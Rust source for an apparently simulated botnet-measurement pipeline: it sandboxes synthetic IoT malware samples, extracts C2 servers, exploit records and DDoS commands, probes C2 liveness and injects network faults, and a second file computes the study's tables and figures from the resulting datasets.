        tel.add("pipeline.c2_live_day0", live_c2_ips.len() as u64);

        self.data.samples.push(SampleRecord {
            sha256: sample.sha256.clone(),
            day,
            yara_family: yara,
            avclass_family: avclass,
            av_detections: av,
            activated,
            c2_addrs,
            instructions,
        });

        // Restricted DDoS-observation session (§2.5): eligible samples
        // become worker-pool jobs instead of running inline here.
        if activated && !live_c2_ips.is_empty() {
            Some(RestrictedJob {
                sample_id,
                live: live_c2_ips,
            })
        } else {
            None
        }
    }

    /// Phase B3: fold one restricted session's DDoS evidence into the
    /// datasets on the coordinator thread. Runs in sample-id order, so
    /// the duplicate-command gate and the feed queries see exactly the
    /// state the sequential pipeline would have.
    fn merge_ddos_evidence(&mut self, world: &World, day: u32, session: RestrictedOutcome) {
        let _merge_span = self.tel.span("pipeline.merge");
        let sample = &world.samples[session.sample_id];
        for (addr, ip, fam, cmds) in session.evidence {
            for c in cmds {
                if !c.verified {
                    continue; // manual verification gate (§2.5)
                }
                // One command = one record: the same command relayed
                // through a second bot of the same botnet is not a
                // new attack.
                let dup = self
                    .data
                    .ddos
                    .iter()
                    .any(|d| d.c2_addr == addr && d.day == day && d.command == c.command);
                if dup {
                    continue;
                }
                let known = self.vendors.query(&addr, day).is_malicious();
                self.data.ddos.push(DdosRecord {
                    sha256: sample.sha256.clone(),
                    family: fam.unwrap_or(Family::Mirai),
                    c2_addr: addr.clone(),
                    c2_ip: ip,
                    day,
                    command: c.command,
                    detection: c.detection,
                    measured_pps: c.measured_pps,
                    verified: c.verified,
                    target_protocol: c
                        .command
                        .target_protocol(fam.map(|f| f.tls_over_tcp()).unwrap_or(true)),
                    c2_known_to_feeds: known,
                });
                self.tel.add("pipeline.ddos_commands_recorded", 1);
            }
        }
    }
}

/// Apply the day's share of the fault plan to a world-derived network:
/// link faults, DNS failure injection, and scheduled C2 downtime
/// windows. A no-op (that draws no randomness) for the empty plan.
///
/// A free function because two kinds of network need it: the
/// coordinator's shared world network and each restricted session's
/// detached network ([`run_restricted_batch`]) — the same day must see
/// the same faults on both, or a restricted session would observe a C2
/// the liveness sweep saw go down.
fn apply_world_chaos(
    plan: &FaultPlan,
    world: &World,
    net: &mut Network,
    day: u32,
    tel: &Telemetry,
    emit: bool,
) {
    if plan.is_none() {
        return;
    }
    net.faults = plan.world_link(day);
    net.dns_faults = plan.dns_faults(day);
    for c2 in &world.c2s {
        if !c2.alive_on(day) {
            continue;
        }
        if let Some((start, dur)) = plan.downtime_window(day, c2.host_ip) {
            let down_at = SimTime::from_day(day, start);
            net.schedule_host_state(c2.host_ip, down_at, false);
            net.schedule_host_state(c2.host_ip, down_at + SimDuration::from_secs(dur), true);
            tel.add("chaos.c2_downtime_windows", 1);
            // `emit` is true only on the coordinator's per-day
            // application; each restricted worker re-applies the same
            // plan to its detached net, which must not re-announce
            // (or race) the identical window.
            if emit {
                let ip = c2.host_ip.to_string();
                tel.event(
                    "chaos",
                    None,
                    &[
                        ("day", EventField::U(u64::from(day))),
                        ("kind", EventField::S("c2_downtime")),
                        ("ip", EventField::S(&ip)),
                        ("start_secs", EventField::U(start)),
                        ("duration_secs", EventField::U(dur)),
                    ],
                );
            }
        }
    }
}

/// One sample's pending restricted DDoS-observation session: emitted by
/// [`Pipeline::merge_world_effects`] (phase B1) and consumed by the
/// phase-B worker pool ([`run_restricted_batch`]).
#[derive(Debug, Clone)]
struct RestrictedJob {
    /// The sample's id in `world.samples`.
    sample_id: usize,
    /// The sample's C2s that answered the day-0 liveness probe:
    /// `(addr, ip, port, family)` in candidate order.
    live: Vec<(String, Ipv4Addr, u16, Option<Family>)>,
}

/// Everything one restricted session produced, as plain data the
/// coordinator merges in sample-id order (phase B3).
struct RestrictedOutcome {
    /// The sample's id in `world.samples`.
    sample_id: usize,
    /// Per live C2: `(addr, ip, family, extracted commands)` in the
    /// job's candidate order.
    evidence: Vec<(
        String,
        Ipv4Addr,
        Option<Family>,
        Vec<ddos::ExtractedCommand>,
    )>,
}

/// Phase B2: run every pending restricted session, returning outcomes in
/// job (= sample-id) order.
///
/// Each session runs against its **own detached network** built by
/// [`World::network_for_day_detached`] from a [`SeedStream::RestrictedNet`]
/// sub-seed: same topology and day as the coordinator's world network,
/// but private RNG state and private C2 responsiveness chains, so one
/// session's traffic can never perturb another's — the property that
/// makes the fan-out byte-deterministic (DESIGN.md §8). The day's fault
/// plan is re-applied to every detached network so chaos runs see
/// identical outage windows on both sides of the split.
fn run_restricted_batch(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    jobs: &[RestrictedJob],
    tel: &Telemetry,
) -> Vec<RestrictedOutcome> {
    if jobs.is_empty() {
        return Vec::new();
    }
    // Workers re-attach their spans under the coordinator's phase-B span.
    let parent = tel.current_span();
    crate::par::fan_out(
        jobs.len(),
        opts.parallelism,
        |i| {
            let job = &jobs[i];
            let session = {
                let _span = tel.span_under("pipeline.restricted_session", &parent);
                tel.add("pipeline.restricted_sessions", 1);
                let (mut net, _logs) = world.network_for_day_detached(
                    day,
                    sample_seed(opts.seed, day, job.sample_id, SeedStream::RestrictedNet),
                );
                net.set_telemetry(tel);
                apply_world_chaos(&opts.faults, world, &mut net, day, tel, false);
                let mut allowed: Vec<Ipv4Addr> = job.live.iter().map(|(_, ip, _, _)| *ip).collect();
                allowed.push(malnet_botgen::world::WORLD_RESOLVER);
                let mut sb = Sandbox::new(
                    net,
                    SandboxConfig {
                        bot_ip: BOT_IP,
                        mode: AnalysisMode::Restricted { allowed },
                        handshaker_threshold: None,
                        instruction_budget: 2_000_000_000,
                        seed: sample_seed(opts.seed, day, job.sample_id, SeedStream::Restricted),
                        block_engine: opts.block_engine,
                        // Emulator faults target the contained run only;
                        // restricted sessions keep the honest fd cap.
                        fd_cap: malnet_sandbox::process::DEFAULT_FD_CAP,
                        emu_faults: malnet_sandbox::EmuFaults::none(),
                    },
                )
                .with_telemetry(tel);
                sb.execute(
                    &world.samples[job.sample_id].elf,
                    SimDuration::from_secs(opts.restricted_secs),
                )
            };
            let _eavesdrop_span = tel.span_under("pipeline.ddos_eavesdrop", &parent);
            let packets = session.packets();
            let evidence = job
                .live
                .iter()
                .map(|(addr, ip, _port, fam)| {
                    let cmds = ddos::extract(&packets, BOT_IP, *ip, *fam, opts.pps_threshold);
                    tel.add("pipeline.ddos_commands_seen", cmds.len() as u64);
                    (addr.clone(), *ip, *fam, cmds)
                })
                .collect();
            RestrictedOutcome {
                sample_id: job.sample_id,
                evidence,
            }
        },
        // Unreachable short of a harness bug (see `fan_out`): degrade to
        // "session produced nothing" rather than aborting the study.
        |i| RestrictedOutcome {
            sample_id: jobs[i].sample_id,
            evidence: Vec::new(),
        },
    )
}

/// Sub-seed domain for the contained run's isolated [`Network`]. Zero
/// by historical accident (the first stream predates the domain
/// registry) and pinned forever: changing it would shift every
/// published dataset byte-for-byte.
const DOMAIN_CONTAINED_NET: u64 = 0;
/// Sub-seed domain for the contained [`Sandbox`] (emulator jitter,
/// handshaker).
const DOMAIN_CONTAINED_SANDBOX: u64 = 0x5eed_0000_0000_0001;
/// Sub-seed domain for the restricted DDoS-observation [`Sandbox`].
const DOMAIN_RESTRICTED: u64 = 0x5eed_0000_0000_0002;
/// Sub-seed domain for the restricted session's detached world-derived
/// [`Network`] ([`World::network_for_day_detached`]): same topology as
/// the coordinator's world net, private RNG + responsiveness chains.
const DOMAIN_RESTRICTED_NET: u64 = 0x5eed_0000_0000_0003;

/// The per-sample RNG streams derived from the master seed. Each stream
/// gets its own [`sub_seed`] domain so the contained network, contained
/// sandbox, and restricted sandbox never share a generator. The domain
/// constants live in the workspace-wide `0x5eed_…` family whose
/// uniqueness `malnet-lint` checks across crates.
#[derive(Debug, Clone, Copy)]
enum SeedStream {
    /// [`DOMAIN_CONTAINED_NET`].
    ContainedNet,
    /// [`DOMAIN_CONTAINED_SANDBOX`].
    ContainedSandbox,
    /// [`DOMAIN_RESTRICTED`].
    Restricted,
    /// [`DOMAIN_RESTRICTED_NET`].
    RestrictedNet,
}

/// Derive the seed for one per-sample RNG stream.
///
/// Built on [`sub_seed`] (splitmix64 chaining) so seeds are well mixed
/// across `(day, sample, stream)` even for adjacent master seeds — unlike
/// the old `master ^ id << k` scheme, which collided across days.
fn sample_seed(master: u64, day: u32, sample_id: usize, stream: SeedStream) -> u64 {
    let domain = match stream {
        SeedStream::ContainedNet => DOMAIN_CONTAINED_NET,
        SeedStream::ContainedSandbox => DOMAIN_CONTAINED_SANDBOX,
        SeedStream::Restricted => DOMAIN_RESTRICTED,
        SeedStream::RestrictedNet => DOMAIN_RESTRICTED_NET,
    };
    sub_seed(master ^ domain, day, sample_id as u64)
}

/// Everything the contained-activation stage (phase A) produces for one
/// sample. Plain data: safe to compute on a worker thread and ship back
/// to the merge stage.
#[derive(Debug, Clone, PartialEq)]
pub struct ContainedOutcome {
    /// The analyzed sample's id in `world.samples`.
    pub sample_id: usize,
    /// YARA family label of the binary.
    pub yara: Option<String>,
    /// AVClass2 family label of the binary.
    pub avclass: Option<String>,
    /// Did the sample activate (run and speak) in the sandbox?
    pub activated: bool,
    /// Classified exploit payloads captured by the handshaker.
    pub exploits: Vec<ExploitRecord>,
    /// C2 candidates extracted from the capture (empty for P2P samples).
    pub candidates: Vec<crate::c2detect::C2Candidate>,
    /// Instructions the emulator retired.
    pub instructions: u64,
    /// Phase-0 static triage result (None when triage is off).
    pub triage: Option<TriageRecord>,
    /// Exit label of the contained run (`"exited(0)"`, `"fault: …"`,
    /// `"deadline"`, `"budget"`) — input to D-Health accounting.
    pub exit: String,
    /// Injected-fault context active during this sample's contained run
    /// (empty outside chaos runs).
    pub fault_context: Vec<String>,
    /// Syscall-boundary faults actually injected into the contained run
    /// (all-zero outside chaos runs) — when the run degraded, this is
    /// what reclassifies it as [`HealthKind::EmuFault`].
    pub emu_faults: EmuFaultTally,
}

/// A phase-A casualty: the worker analyzing this sample panicked. The
/// pipeline quarantines it into D-Health instead of aborting the study.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Quarantined {
    /// The sample's id in `world.samples`.
    pub sample_id: usize,
    /// Panic message (best effort).
    pub detail: String,
    /// Injected-fault context, when the panic was chaos-forced.
    pub fault_context: Vec<String>,
}

// Compile-time guarantee: phase-A outcomes can ship across threads.
const _: () = {
    const fn assert_send<T: Send>() {}
    assert_send::<ContainedOutcome>();
};

/// Phase A of per-sample analysis: the contained sandbox run and every
/// derivation that depends only on it.
///
/// This is a pure function of `(world, opts, day, sample_id)`: the run
/// executes against a fresh, isolated [`Network`] seeded by
/// [`sub_seed`], touches no pipeline state, and so can execute on any
/// thread in any order. The pipeline fans these out when
/// [`PipelineOpts::parallelism`] > 1.
pub fn contained_activation(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    sample_id: usize,
    tel: &Telemetry,
) -> ContainedOutcome {
    let plan = &opts.faults;
    if plan.forced_panic(day, sample_id) {
        tel.add("chaos.forced_panics", 1);
        // Deliberate: the chaos layer's injected crash. lint: panic-ok
        panic!("chaos: forced phase-A worker panic (day {day}, sample {sample_id})");
    }
    let sample = &world.samples[sample_id];
    let mut fault_context: Vec<String> = Vec::new();
    // Binary mutation (truncation / bit flip) models a corrupted feed
    // download; the analysis sees the mutated bytes end to end.
    let mutated = plan.mutate_binary(day, sample_id, &sample.elf);
    let elf: &[u8] = match &mutated {
        Some((bytes, desc)) => {
            tel.add("chaos.binaries_mutated", 1);
            fault_context.push(desc.clone());
            bytes
        }
        None => &sample.elf,
    };
    let yara = yara_label(elf).map(str::to_string);
    let avclass = avclass2_label(elf).map(str::to_string);

    // --- phase 0: static triage (no instruction executed) ---
    let triage = if opts.static_triage {
        let _triage_span = tel.span("pipeline.static_triage");
        Some(static_triage(elf, day, &sample.sha256, tel))
    } else {
        None
    };

    // --- contained activation: C2 + exploit extraction ---
    let mut contained_net = Network::new(
        SimTime::from_day(day, 0),
        sample_seed(opts.seed, day, sample_id, SeedStream::ContainedNet),
    );
    contained_net.set_telemetry(tel);
    if !plan.is_none() {
        let link = plan.contained_link(day, sample_id);
        if link.loss > 0.0 || link.corrupt > 0.0 {
            fault_context.push(format!(
                "contained link loss={:.4} corrupt={:.4}",
                link.loss, link.corrupt
            ));
            contained_net.faults = link;
        }
        // The sandbox's fake resolver is a DnsService like any other:
        // the day's DNS fault policy applies to it too. Decisions draw
        // from the contained net's per-sample RNG, so they are a pure
        // function of (fault_seed, day, sample_id).
        let dns = plan.dns_faults(day);
        if dns.any() {
            fault_context.push(format!(
                "dns drop={:.4} servfail={:.4} nxdomain={:.4}",
                dns.drop_rate, dns.servfail_rate, dns.nxdomain_rate
            ));
            contained_net.dns_faults = dns;
        }
    }
    // Emulator fault sub-plan: syscall-boundary chaos injected inside
    // the guest's kernel view (short I/O, EINTR, ENOMEM, fd-cap
    // squeeze). Inert — and RNG-free — unless the plan enables it.
    let emu = plan.emu_faults(day, sample_id);
    if !emu.is_none() {
        fault_context.push(format!(
            "emu faults armed: short={:.4} eintr={:.4} enomem={:.4} fd_cap={}",
            emu.short_rate,
            emu.eintr_rate,
            emu.enomem_rate,
            emu.fd_cap
                .map_or_else(|| "default".to_string(), |c| c.to_string()),
        ));
    }
    let mut sb = Sandbox::new(
        contained_net,
        SandboxConfig {
            bot_ip: BOT_IP,
            mode: AnalysisMode::Contained,
            handshaker_threshold: Some(opts.handshaker_threshold),
            instruction_budget: 400_000_000,
            seed: sample_seed(opts.seed, day, sample_id, SeedStream::ContainedSandbox),
            block_engine: opts.block_engine,
            fd_cap: malnet_sandbox::process::DEFAULT_FD_CAP,
            emu_faults: emu,
        },
    )
    .with_telemetry(tel);
    let art = sb.execute(elf, SimDuration::from_secs(opts.contained_secs));
    drop(sb);
    if art.emu_faults.any() {
        fault_context.push(art.emu_faults.describe());
    }
    let activated = !matches!(art.exit, malnet_sandbox::ExitReason::Fault(_))
        && art.syscalls > 0
        && !matches!(art.exit, malnet_sandbox::ExitReason::Exited(126 | 127));

    // Exploits (D-Exploits).
    let mut exploits = Vec::new();
    for cap in &art.exploits {
        let vulns = exploitdb::classify(&cap.payload);
        if vulns.is_empty() {
            continue;
        }
        let dl = exploitdb::extract_downloader(&cap.payload);
        exploits.push(ExploitRecord {
            sha256: sample.sha256.clone(),
            day,
            vulns,
            port: cap.port,
            downloader: dl.as_ref().map(|(ip, _)| *ip),
            loader: dl.map(|(_, l)| l),
            payload: cap.payload.clone(),
        });
    }

    // C2 candidates — skip P2P-labelled samples (§2.3a).
    let is_p2p = matches!(yara.as_deref(), Some("mozi") | Some("hajime"));
    let candidates = if is_p2p {
        Vec::new()
    } else {
        detect_c2(&art, BOT_IP)
    };

    if activated {
        tel.add("pipeline.samples_activated", 1);
    }
    tel.add("pipeline.c2_candidates", candidates.len() as u64);
    tel.add("pipeline.exploits_classified", exploits.len() as u64);

    ContainedOutcome {
        sample_id,
        yara,
        avclass,
        activated,
        exploits,
        candidates,
        instructions: art.instructions,
        triage,
        exit: exit_label(&art.exit),
        fault_context,
        emu_faults: art.emu_faults,
    }
}

/// Canonical string form of a sandbox exit reason.
fn exit_label(exit: &malnet_sandbox::ExitReason) -> String {
    match exit {
        malnet_sandbox::ExitReason::Exited(code) => format!("exited({code})"),
        malnet_sandbox::ExitReason::Fault(msg) => format!("fault: {msg}"),
        malnet_sandbox::ExitReason::Deadline => "deadline".to_string(),
        malnet_sandbox::ExitReason::Budget => "budget".to_string(),
    }
}

/// Coarse exit class an [`exit_label`] string belongs to — the
/// D-Health `exit_counts` key.
pub fn exit_class(label: &str) -> &'static str {
    if label.starts_with("exited") {
        "exited"
    } else if label.starts_with("fault") {
        "fault"
    } else if label == "budget" {
        "budget"
    } else {
        "deadline"
    }
}

/// D-Health classification of a contained run's [`exit_class`]: which
/// degradation row (if any) the run earns. Total over every class the
/// pipeline produces — `crates/core/tests/health_classification.rs`
/// proves no label falls through.
///
/// A degraded run (`fault` or `budget`) that had syscall-boundary
/// faults injected (`emu_injected`) is attributed to the emulator fault
/// domain ([`HealthKind::EmuFault`]) rather than blamed on the binary:
/// the casualty's proximate cause is chaos we inflicted. Clean exits and
/// deadlines are never reclassified — running out the clock is normal
/// bot behaviour, faults or not.
pub fn degraded_kind(class: &str, emu_injected: bool) -> Option<HealthKind> {
    match class {
        "fault" | "budget" if emu_injected => Some(HealthKind::EmuFault),
        "fault" => Some(HealthKind::SandboxFault),
        "budget" => Some(HealthKind::BudgetExhausted),
        _ => None,
    }
}

/// Run `malnet-xray` over one binary and fold the result into a
/// [`TriageRecord`]. Pure (no RNG, no simulated clock) and
/// per-sample-independent, so it parallelizes with the rest of phase A.
fn static_triage(elf: &[u8], day: u32, sha256: &str, tel: &Telemetry) -> TriageRecord {
    let rep = malnet_xray::analyze(elf);
    tel.add("xray.samples_triaged", 1);
    tel.add("xray.endpoints_extracted", rep.endpoints.len() as u64);
    if !rep.valid_elf {
        tel.add("xray.invalid_elf", 1);
    }
    let mut candidates: Vec<String> = rep.c2_candidates().map(|e| e.addr.clone()).collect();
    candidates.sort_unstable();
    candidates.dedup();
    TriageRecord {
        sha256: sha256.to_string(),
        day,
        valid_elf: rep.valid_elf,
        lints: rep.lints.iter().map(|l| l.code.to_string()).collect(),
        net_capable: rep.text.net_capable(),
        bytecode_records: rep.bytecode_records,
        bytecode_skipped: rep.bytecode_skipped,
        candidates,
        endpoints: rep.endpoints.len(),
    }
}

/// Run phase A for a day's batch, returning outcomes in batch order.
///
/// With `opts.parallelism <= 1` this is a plain sequential loop (the
/// legacy path). Otherwise a scoped thread pool pulls sample indices
/// from a shared counter and writes each outcome into its batch slot, so
/// the returned order — and therefore everything the merge stage does —
/// is independent of thread scheduling.
///
/// A panic inside any sample's contained run is caught on the worker
/// and returned as a [`Quarantined`] casualty in that sample's batch
/// slot — the rest of the batch is unaffected and the pipeline's merge
/// stage records the casualty in D-Health instead of aborting the
/// study.
///
/// Public so the bench harness can time the contained stage in
/// isolation (`malnet-bench`'s `par_sweep`); pipeline callers go
/// through [`Pipeline::run`].
pub fn run_contained_batch(
    world: &World,
    opts: &PipelineOpts,
    day: u32,
    batch: &[usize],
    tel: &Telemetry,
) -> Vec<Result<ContainedOutcome, Quarantined>> {
    // Workers re-attach their per-sample spans under the coordinator's
    // phase-A span (or wherever the caller sits — the bench harness
    // calls this with no span open, which degrades to a root span).
    let parent = tel.current_span();
    crate::par::fan_out(
        batch.len(),
        opts.parallelism,
        |i| {
            let id = batch[i];
            let _span = tel.span_under("pipeline.contained_sample", &parent);
            std::panic::catch_unwind(AssertUnwindSafe(|| {
                contained_activation(world, opts, day, id, tel)
            }))
            .map_err(|payload| Quarantined {
                sample_id: id,
                detail: panic_message(payload.as_ref()),
                fault_context: if opts.faults.forced_panic(day, id) {
                    vec!["forced worker panic".to_string()]
                } else {
                    Vec::new()
                },
            })
        },
        |i| {
            Err(Quarantined {
                sample_id: batch[i],
                detail: "phase-A batch slot was never filled".to_string(),
                fault_context: Vec::new(),
            })
        },
    )
}

/// Best-effort extraction of a panic payload's message.
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

fn family_from_label(label: Option<&str>) -> Option<Family> {
    match label? {
        "mirai" => Some(Family::Mirai),
        "gafgyt" => Some(Family::Gafgyt),
        "tsunami" => Some(Family::Tsunami),
        "daddyl33t" => Some(Family::Daddyl33t),
        "mozi" => Some(Family::Mozi),
        "hajime" => Some(Family::Hajime),
        "vpnfilter" => Some(Family::VpnFilter),
        _ => None,
    }
}

/// One liveness sweep over `targets` (`(addr, ip, port)`) from the
/// monitor host: every target gets a SYN; misses are re-probed up to
/// `syn_retries` more times with linear backoff (8 s, 16 s, 24 s, …).
/// Returns the addresses that completed a TCP handshake in any round.
///
/// The retry loop is the defence against transient loss: with
/// `syn_retries == 0` a single dropped SYN (or a C2 mid-reboot) reads
/// as "dead", and under the tracking grace policy a couple of such
/// windows erases a live C2's entry — the bug the
/// `syn_retry_survives_transient_loss` regression test pins down.
///
/// Public so the regression suite can drive the sweep against a
/// hand-built network; the pipeline calls it from its daily sweep.
pub fn liveness_probe_rounds(
    net: &mut Network,
    targets: &[(String, Ipv4Addr, u16)],
    syn_retries: u32,
    tel: &Telemetry,
) -> Vec<String> {
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    let mut live: Vec<String> = Vec::new();
    let mut pending: Vec<(String, Ipv4Addr, u16)> = targets.to_vec();
    for attempt in 0..=syn_retries {
        if pending.is_empty() {
            break;
        }
        if attempt > 0 {
            tel.add("pipeline.liveness_retries", pending.len() as u64);
        }
        let mut socks: BTreeMap<u64, String> = BTreeMap::new();
        for (addr, ip, port) in &pending {
            let sock = net.ext_tcp_connect(MONITOR_IP, *ip, *port);
            socks.insert(sock.0, addr.clone());
        }
        net.run_for(SimDuration::from_secs(8 * (u64::from(attempt) + 1)));
        for ev in net.ext_events(MONITOR_IP) {
            if let SockEvent::Connected(s) = ev {
                if let Some(addr) = socks.get(&s.0) {
                    live.push(addr.clone());
                }
            }
        }
        for &sock in socks.keys() {
            net.ext_tcp_abort(MONITOR_IP, malnet_netsim::stack::SockId(sock));
        }
        net.run_for(SimDuration::from_secs(1));
        net.ext_events(MONITOR_IP);
        pending.retain(|(addr, _, _)| !live.contains(addr));
    }
    if added {
        net.remove_host(MONITOR_IP);
    }
    live
}

/// TCP liveness probe from the monitor host.
fn tcp_probe(net: &mut Network, ip: Ipv4Addr, port: u16) -> bool {
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    let sock = net.ext_tcp_connect(MONITOR_IP, ip, port);
    net.run_for(SimDuration::from_secs(8));
    let mut live = false;
    for ev in net.ext_events(MONITOR_IP) {
        if let SockEvent::Connected(s) = ev {
            if s == sock {
                live = true;
            }
        }
    }
    net.ext_tcp_abort(MONITOR_IP, sock);
    net.run_for(SimDuration::from_secs(1));
    net.ext_events(MONITOR_IP);
    if added {
        net.remove_host(MONITOR_IP);
    }
    live
}

/// Resolve a domain against the world resolver.
fn resolve_on(net: &mut Network, domain: &str) -> Option<Ipv4Addr> {
    let name = DomainName::new(domain).ok()?;
    let added = !net.has_host(MONITOR_IP);
    if added {
        net.add_external_host(MONITOR_IP);
    }
    net.with_external(MONITOR_IP, |s| {
        s.udp_bind(45353);
        ((), vec![])
    });
    let q = DnsMessage::query(7, name);
    net.ext_udp_send(
        MONITOR_IP,
        45353,
        malnet_botgen::world::WORLD_RESOLVER,
        53,
        q.encode(),
    );
    net.run_for(SimDuration::from_secs(3));
    let mut answer = None;
    for ev in net.ext_events(MONITOR_IP) {
        if let SockEvent::UdpData { data, .. } = ev {
            if let Ok(msg) = DnsMessage::decode(&data) {
                if let Some((_, ip, _)) = msg.answers.first() {
                    answer = Some(*ip);
                }
            }
        }
    }
    if added {
        net.remove_host(MONITOR_IP);
    }
    answer
}

/// Pick the probing weapons: one Mirai and one Gafgyt sample with clean
/// call-home behaviour (no exploit arsenal, no sandbox evasion, runs
/// reliably). The paper's operators likewise hand-selected two known-good
/// samples for the probing study (§2.3b).
fn probe_weapons(world: &World) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for fam in [Family::Mirai, Family::Gafgyt] {
        if let Some(s) = world.samples.iter().find(|s| {
            s.family == fam && !s.corrupted && s.spec.exploits.is_empty() && !s.spec.evasive
        }) {
            out.push(s.elf.clone());
        }
    }
    out
}
