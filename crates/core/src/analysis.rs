//! One function per paper table/figure, computing the artefact from the
//! pipeline's datasets (never from world ground truth).

use std::collections::{BTreeMap, BTreeSet};

use malnet_botgen::exploitdb::VulnId;
use malnet_netsim::asdb::{AsDb, Asn};
use malnet_netsim::time::study_week_of_day;
use malnet_protocols::{AttackMethod, Family, TargetProtocol};

use crate::datasets::Datasets;
use crate::stats::{pct, Cdf, Counter, Heatmap};

/// Table 2: the top ASes hosting C2 IPs, with registry attributes.
#[derive(Debug, Clone)]
pub struct Table2Row {
    /// Organisation name.
    pub name: String,
    /// ASN.
    pub asn: u32,
    /// Country code.
    pub country: String,
    /// Hosting business?
    pub hosting: bool,
    /// Sells anti-DDoS (None = unknown)?
    pub anti_ddos: Option<bool>,
    /// C2 count in D-C2s.
    pub c2_count: u64,
}

/// Compute Table 2 (top `n` ASes) plus the top-10 share of all C2s.
pub fn table2(data: &Datasets, asdb: &AsDb, n: usize) -> (Vec<Table2Row>, f64) {
    let mut per_asn: Counter<u32> = Counter::new();
    for rec in data.c2s.values() {
        if let Some(asn) = rec.asn {
            per_asn.add(asn);
        }
    }
    let rows: Vec<Table2Row> = per_asn
        .sorted()
        .into_iter()
        .take(n)
        .map(|(asn, c2_count)| {
            let rec = asdb.get(Asn(asn));
            Table2Row {
                name: rec
                    .map(|r| r.name.clone())
                    .unwrap_or_else(|| format!("AS{asn}")),
                asn,
                country: rec.map(|r| r.country.to_string()).unwrap_or_default(),
                hosting: rec.map(|r| r.is_hosting()).unwrap_or(false),
                anti_ddos: rec.and_then(|r| r.anti_ddos),
                c2_count,
            }
        })
        .collect();
    let top10: u64 = per_asn.sorted().into_iter().take(10).map(|(_, c)| c).sum();
    let share = top10 as f64 / per_asn.total().max(1) as f64;
    (rows, share)
}

/// Table 3: unreported C2 percentages, same-day and at the late query.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Table3 {
    /// % of all C2s unknown on the discovery day.
    pub all_day0: f64,
    /// % of all C2s still unknown at the late re-query.
    pub all_late: f64,
    /// Same, IP-based only.
    pub ip_day0: f64,
    /// IP-based, late.
    pub ip_late: f64,
    /// DNS-based, day 0.
    pub dns_day0: f64,
    /// DNS-based, late.
    pub dns_late: f64,
}

/// Compute Table 3.
pub fn table3(data: &Datasets) -> Table3 {
    let all: Vec<&crate::datasets::C2Record> = data.c2s.values().collect();
    let ips: Vec<&crate::datasets::C2Record> = all.iter().copied().filter(|r| !r.dns).collect();
    let dns: Vec<&crate::datasets::C2Record> = all.iter().copied().filter(|r| r.dns).collect();
    let miss0 = |set: &[&crate::datasets::C2Record]| {
        pct(set.iter().filter(|r| !r.vt_day0).count(), set.len())
    };
    let missl = |set: &[&crate::datasets::C2Record]| {
        pct(set.iter().filter(|r| !r.vt_late).count(), set.len())
    };
    Table3 {
        all_day0: miss0(&all),
        all_late: missl(&all),
        ip_day0: miss0(&ips),
        ip_late: missl(&ips),
        dns_day0: miss0(&dns),
        dns_late: missl(&dns),
    }
}

/// Table 4: per-vulnerability sample counts from D-Exploits.
pub fn table4(data: &Datasets) -> Vec<(VulnId, usize)> {
    let mut per_vuln: BTreeMap<VulnId, BTreeSet<&str>> = BTreeMap::new();
    for e in &data.exploits {
        for v in &e.vulns {
            per_vuln.entry(*v).or_default().insert(e.sha256.as_str());
        }
    }
    VulnId::ALL
        .iter()
        .map(|v| (*v, per_vuln.get(v).map(|s| s.len()).unwrap_or(0)))
        .collect()
}

/// Table 7: per-vendor detection counts over the C2 IP population at the
/// late query date.
pub fn table7(
    vendors: &malnet_intel::VendorDb,
    data: &Datasets,
    day: u32,
    top: usize,
) -> Vec<(String, u32)> {
    let addrs: Vec<String> = data
        .c2s
        .values()
        .filter(|r| !r.dns)
        .map(|r| r.addr.clone())
        .collect();
    let mut counts = vendors.vendor_counts(&addrs, day);
    counts.truncate(top);
    counts
}

/// Figure 1: weekly C2 activity per hosting AS.
pub fn fig1(data: &Datasets, asdb: &AsDb) -> Heatmap {
    let mut hm = Heatmap::new();
    for rec in data.c2s.values() {
        let Some(asn) = rec.asn else { continue };
        let name = asdb
            .get(Asn(asn))
            .map(|r| r.name.clone())
            .unwrap_or_else(|| format!("AS{asn}"));
        if let Some(week) = study_week_of_day(rec.first_seen_day) {
            hm.add(&name, week);
        }
    }
    hm
}

/// Figure 2 / Figure 3: CDF of observed lifespans (days) for IP- or
/// DNS-based C2s that were seen alive at least once.
pub fn lifespan_cdf(data: &Datasets, dns: bool) -> Cdf {
    Cdf::new(
        data.c2s
            .values()
            .filter(|r| r.dns == dns && !r.live_days.is_empty())
            .map(|r| u64::from(r.observed_lifespan()))
            .collect(),
    )
}

/// Figure 4 elusiveness summary.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Fig4 {
    /// Servers probed.
    pub servers: usize,
    /// Total probe measurements.
    pub measurements: usize,
    /// Fraction of successful probes followed by a miss on the next
    /// probe (the paper's 91%).
    pub silent_after_success: f64,
    /// Did any server ever answer all probes of one day?
    pub any_full_day: bool,
    /// Overall response rate.
    pub response_rate: f64,
}

/// Compute Figure 4 from D-PC2 (`per_day` = probes per day, paper: 6).
pub fn fig4(data: &Datasets, per_day: u32) -> Fig4 {
    let mut succ_pairs = 0usize;
    let mut succ_then_miss = 0usize;
    let mut responses = 0usize;
    let mut total = 0usize;
    let mut any_full_day = false;
    for p in &data.probed {
        total += p.probes.len();
        responses += p.responses();
        for w in p.probes.windows(2) {
            if w[0].1 {
                succ_pairs += 1;
                if !w[1].1 {
                    succ_then_miss += 1;
                }
            }
        }
        // Group by day.
        let mut by_day: BTreeMap<u32, (u32, u32)> = BTreeMap::new();
        for (round, engaged) in &p.probes {
            let e = by_day.entry(round / per_day).or_insert((0, 0));
            e.0 += 1;
            if *engaged {
                e.1 += 1;
            }
        }
        if by_day
            .values()
            .any(|(probes, hits)| *probes == per_day && hits == probes)
        {
            any_full_day = true;
        }
    }
    Fig4 {
        servers: data.probed.len(),
        measurements: total,
        silent_after_success: pct(succ_then_miss, succ_pairs),
        any_full_day,
        response_rate: pct(responses, total),
    }
}

/// Figure 5 / Figure 6: CDF of distinct samples per C2 (IP or domain).
